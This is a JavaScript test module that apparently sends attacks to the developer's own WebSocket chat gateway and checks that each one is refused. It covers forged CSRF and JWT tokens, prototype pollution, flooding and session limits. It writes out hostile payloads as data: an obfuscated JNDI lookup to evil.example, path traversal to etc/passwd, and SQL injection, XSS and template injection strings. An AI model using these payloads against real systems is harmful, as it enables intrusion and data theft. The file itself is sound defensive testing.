// What a hostile client would try. Each attempt says what it does, what has to happen, and does it for real.

import { aside } from './aside.js';
import { endpoint, freshId, protocols } from './wire.js';

const WAIT_MS = 6_000;

/** A whole, correct chat message that an attempt may then spoil. */
function correct(client, room, extra = {}) {
  return {
    type: 'chat',
    id: freshId('try'),
    to: { room },
    payload: { text: 'knock knock' },
    csrfToken: client.csrf,
    timestamp: client.now(),
    ...extra,
  };
}

/**
 * Sends text and resolves with what the gateway makes of it: {code, message, requestId, retryAfter}, {taken: type} or
 * {closed}. An error without an id answers too: a message that could not be read has none.
 */
function provoke(client, text, id) {
  return new Promise((resolve) => {
    const stop = new AbortController();
    let refusal = null;
    const done = (outcome) => {
      stop.abort();
      clearTimeout(late);
      resolve(outcome);
    };
    const late = setTimeout(() => done(refusal ?? { silent: true }), WAIT_MS);
    client.addEventListener('message', ({ detail: { message } }) => {
      const answers = message.id === id || (message.type === 'error' && message.id === undefined);
      if (!answers) return;
      if (message.type === 'error') {
        refusal = message.payload ?? {};
        setTimeout(() => done(refusal), 150); // a close may follow
      } else {
        done({ taken: message.type });
      }
    }, { signal: stop.signal });
    client.addEventListener('closed', ({ detail: { code, text: why } }) =>
      done({ ...refusal, closed: code, why }), { signal: stop.signal });
    if (!client.raw(text)) done({ silent: true, message: 'Not connected.' });
  });
}

const spoilt = (spoil) => ({ client, room }) => {
  const message = correct(client, room);
  const text = spoil(message) ?? JSON.stringify(message);
  return provoke(client, text, message.id);
};

/** One more handshake outside the page's own client; resolves to the open socket, or to how it was refused. */
function handshake(token) {
  return new Promise((resolve) => {
    const socket = new WebSocket(endpoint(), protocols(token));
    let welcomed = false;
    socket.addEventListener('message', ({ data }) => {
      welcomed ||= String(data).includes('"welcome"');
      if (welcomed) resolve({ socket });
    });
    socket.addEventListener('close', ({ code }) => resolve({ closed: code, opened: welcomed }));
  });
}

async function oneTooMany({ token }) {
  const held = [];
  try {
    for (let n = 0; n < 8; n += 1) {
      const { socket, closed } = await handshake(await token());
      if (!socket) return { closed, http: 429, code: 'session_limit', message: `${held.length} more let in, then refused.` };
      held.push(socket);
    }
    return { taken: `${held.length} more sessions` };
  } finally {
    for (const socket of held) socket.close(1000, 'done');
  }
}

async function forgedToken({ token }) {
  const [head, , signature] = (await token()).split('.');
  const claims = btoa(JSON.stringify({ sub: 'root', roles: ['admin'], exp: Math.floor(Date.now() / 1000) + 600 }));
  const forged = [head, claims.replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, ''), signature].join('.');
  const { socket, closed } = await handshake(forged);
  socket?.close(1000, 'done');
  return socket ? { taken: 'the forged token' } : { closed, http: 401, code: 'unauthenticated', message: 'No upgrade.' };
}

function oversize({ client, room }) {
  const message = correct(client, room, { payload: { text: 'x'.repeat(70_000) } });
  client.expectClose(); // 1009 is no code to come back after by itself: here it was on purpose
  return provoke(client, JSON.stringify(message), message.id).finally(() => {
    if (client.state === 'open') client.expectClose(false);
  });
}

/** Two hundred messages at once; counts what became of them until all are answered or nothing comes any more. */
function flood({ client, room }) {
  return new Promise((resolve) => {
    const ids = new Set();
    const stop = new AbortController();
    let taken = 0;
    let refused = null;
    let quiet = 0;
    const done = (extra = {}) => {
      stop.abort();
      clearTimeout(quiet);
      const message = `${taken} of 200 taken, ${200 - taken} not.`;
      resolve(refused || extra.closed ? { ...refused, ...extra, message } : { taken: `all of ${taken}` });
    };
    client.addEventListener('message', ({ detail: { message } }) => {
      if (!ids.has(message.id) || message.from) return;
      if (message.type === 'error') refused = message.payload;
      else taken += 1;
      ids.delete(message.id);
      clearTimeout(quiet);
      quiet = setTimeout(done, ids.size ? 1_500 : 0);
    }, { signal: stop.signal });
    client.addEventListener('closed', ({ detail }) => done({ closed: detail.code, why: detail.text }), { signal: stop.signal });
    client.expectClose(); // enough of this may end the connection: then come back
    for (let n = 0; n < 200; n += 1) {
      const message = correct(client, room, { id: freshId('flood'), payload: { text: `flood ${n}` } });
      ids.add(message.id);
      client.raw(JSON.stringify(message));
    }
    quiet = setTimeout(done, WAIT_MS);
  }).finally(() => client.state === 'open' && client.expectClose(false));
}

/** Does something on a connection of its own, in a room where nobody else is; leaves when it is done. */
const apart = (does) => async ({ token }) => {
  const own = await aside(await token());
  try {
    const room = `room.${freshId('aside')}`;
    await own.ask({ type: 'join', to: { room } });
    return await does(own, room);
  } finally {
    own.leave();
  }
};

/** The refusal among some answers, or what they say instead. */
function refusal(answers, own) {
  const error = answers.find((answer) => answer?.type === 'error');
  return error?.payload ?? { taken: `all of ${answers.length}`, ...(own.ended() ? { closed: own.ended() } : {}) };
}

/** Asks after health two hundred times at once: no rule of a type counts that, only the connection's own. */
const hurry = apart(async (own) => {
  for (let n = 0; n < 200; n += 1) own.send({ type: 'health-check' });
  const error = await own.hear(({ type }) => type === 'error');
  return error?.payload ?? { silent: true };
});

/** Messages each of which passes, until what they show together is too much. */
const probing = apart(async (own, room) => {
  const text = "x' OR '1'='1; 1 UNION SELECT password; <script>alert(1)</script>; <img src=x onerror=alert(1)>; {{7*7}}; ../../etc/passwd";
  const answers = [];
  for (let n = 0; n < 9 && answers.at(-1)?.type !== 'error'; n += 1) {
    answers.push(await own.ask({ type: 'chat', to: { room }, payload: { text } }));
  }
  const passed = answers.length - 1;
  const found = refusal(answers, own);
  return { ...found, message: `${passed} passed and added up. ${found.message ?? ''}` };
});

/** Sends a payload, and resolves to how its own copy looks when it comes back. */
const comesBack = (type, payload, code, isRight) => apart(async (own, room) => {
  const answer = await own.ask({ type, to: { room }, payload });
  if (answer?.type === 'error') return answer.payload;
  const copy = await own.hear((message) => message.type === type && message.from);
  if (!copy) return { silent: true };
  const text = JSON.stringify(copy.payload);
  return isRight(text) ? { code, changed: true, message: `Delivered as ${text}` } : { taken: `a copy as it was: ${text}` };
});

const nested = (levels) => '{"a":'.repeat(levels) + '1' + '}'.repeat(levels);

/** `stage`: which part refuses; `expect`: the codes that are right; `close`: the close code that is; `admin`: what is right for an admin instead. */
export const ATTEMPTS = [
  {
    id: 'csrf-wrong', stage: 'csrf', title: 'Wrong CSRF token', what: 'Sends a chat message with a token that was never issued.',
    expect: ['csrf_invalid'], run: spoilt((m) => { m.csrfToken = 'AAAAAAAAAAAAAAAAAAAAAA'; }),
  },
  {
    id: 'csrf-missing', stage: 'csrf', title: 'No CSRF token', what: 'Leaves the token out: undefined must not equal undefined.',
    expect: ['csrf_invalid'], run: spoilt((m) => { delete m.csrfToken; }),
  },
  {
    id: 'type-undeclared', stage: 'role', title: 'Undeclared type', what: 'Sends “launch_missiles”, which the configuration does not know.',
    expect: ['type_unknown'], run: spoilt((m) => { m.type = 'launch_missiles'; }),
  },
  {
    id: 'member-unknown', stage: 'decode', title: 'Unknown member', what: 'Adds "admin": true beside the type.',
    expect: ['malformed'], run: spoilt((m) => { m.admin = true; }),
  },
  {
    id: 'key-twice', stage: 'decode', title: 'A key twice', what: 'Says "type" twice, so that two parsers would read two messages.',
    expect: ['malformed'], run: spoilt((m) => JSON.stringify(m).replace('{', '{"type":"health-check",')),
  },
  {
    id: 'proto', stage: 'decode', title: 'Prototype pollution', what: 'Hides a __proto__ key in the payload.',
    expect: ['malformed', 'schema_invalid'],
    run: spoilt((m) => JSON.stringify(m).replace('"payload":{', '"payload":{"__proto__":{"admin":true},')),
  },
  {
    id: 'depth', stage: 'size', title: 'Nested too deep', what: 'A payload that makes the message seventeen levels deep.',
    expect: ['malformed'],
    run: spoilt((m) => JSON.stringify(m).replace('"payload":{', `"payload":{"deep":${nested(15)},`)),
  },
  {
    id: 'stale', stage: 'decode', title: 'Stale time', what: 'Replays a message with a timestamp ten minutes old.',
    expect: ['malformed', 'schema_invalid'], run: spoilt((m) => { m.timestamp -= 600_000; }),
  },
  {
    id: 'room-forbidden', stage: 'role', title: 'Someone else’s room', what: 'Joins team.red; the token names only team blue.',
    expect: ['forbidden'],
    run: spoilt((m) => { m.type = 'join'; m.to = { room: 'team.red' }; delete m.payload; }),
  },
  {
    id: 'role', stage: 'role', title: 'Above your role', what: 'Sends a “notification”, which only admins may.',
    expect: ['forbidden'], admin: 'You are an admin: it is allowed. Connect as a member to see it refused.',
    run: spoilt((m) => { m.type = 'notification'; m.payload = { text: 'from a member?' }; }),
  },
  {
    id: 'not-member', stage: 'route', title: 'Talk without joining', what: 'Publishes to team.blue, open to you but not joined.',
    expect: ['not_member'], run: spoilt((m) => { m.to = { room: m.to.room === 'team.blue' ? 'lobby' : 'team.blue' }; }),
  },
  {
    id: 'schema', stage: 'schema', title: 'A misspelt member', what: 'Joins with “sinse” in the payload, which its form does not know.',
    expect: ['schema_invalid'],
    run: spoilt((m) => { m.type = 'join'; m.payload = { sinse: 1 }; }),
  },
  {
    id: 'signature', stage: 'signatures', title: 'An operator as a key', what: 'Asks for a filter of {"$gt": ""}, which means everybody to some databases.',
    expect: ['forbidden'], run: spoilt((m) => { m.payload = { filter: { $gt: '' } }; }),
  },
  {
    id: 'lookup', stage: 'signatures', title: 'A look-up', what: 'Says ${jndi:ldap://…}, spelt so that a simple filter misses it.',
    expect: ['forbidden'], run: spoilt((m) => { m.payload = { text: '${${lower:j}ndi:ldap://evil.example/a}' }; }),
  },
  {
    id: 'path', stage: 'sanitise', title: 'A file that leads elsewhere', what: 'Names ..%2f..%2fetc%2fpasswd in a field for file names.',
    expect: ['schema_invalid'], run: spoilt((m) => { m.type = 'post'; m.payload = { file: '..%2f..%2fetc%2fpasswd' }; }),
  },
  {
    id: 'html', stage: 'sanitise', title: 'Script in a post', what: 'Posts markup with a handler and a script; what is left of it is delivered.',
    expect: ['cleaned'], handshake: true,
    run: comesBack('post', { html: '<b onclick="steal()">hi</b><script>steal()</script>' }, 'cleaned', (text) => text.includes('<b>hi</b>') && !/steal/.test(text)),
  },
  {
    id: 'leak', stage: 'outbound', title: 'A card number leaves', what: 'Says the number of a payment card; nobody gets to read it.',
    expect: ['masked'], handshake: true,
    run: comesBack('chat', { text: 'my card is 4111 1111 1111 1111' }, 'masked', (text) => /card is \*{19}"/.test(text)),
  },
  {
    id: 'leak-key', stage: 'outbound', title: 'A token leaves', what: 'Says an access key among other words; only the key becomes unreadable.',
    expect: ['masked'], handshake: true,
    run: comesBack('chat', { text: 'use AKIAIOSFODNN7EXAMPLE today' }, 'masked', (text) => /use \*{20} today/.test(text)),
  },
  { id: 'probing', stage: 'score', title: 'Keep probing', what: 'Sends what only looks odd, again and again, on a connection of its own.', expect: ['restricted'], handshake: true, run: probing },
  { id: 'hurry', stage: 'flow', title: 'Hurry', what: 'Two hundred health checks at once, on a connection of its own.', expect: ['rate_limited'], handshake: true, run: hurry },
  { id: 'token', stage: 'admission', title: 'Forged token', what: 'Opens a second connection with claims of its own under your signature.', expect: ['unauthenticated'], handshake: true, run: forgedToken },
  { id: 'sessions', stage: 'admission', title: 'One session too many', what: 'Opens sessions of your user until one is refused, then closes them.', expect: ['session_limit'], handshake: true, run: oneTooMany },
  { id: 'oversize', stage: 'size', title: 'Oversize', what: 'One message of 70 KB; the limit is 64 KiB. The connection ends; the page comes back.', expect: ['too_large'], close: 1009, run: oversize },
  { id: 'flood', stage: 'rate', title: 'Flood', what: '200 messages at once, far over the rate.', expect: ['rate_limited', 'restricted'], close: 4429, run: flood },
];
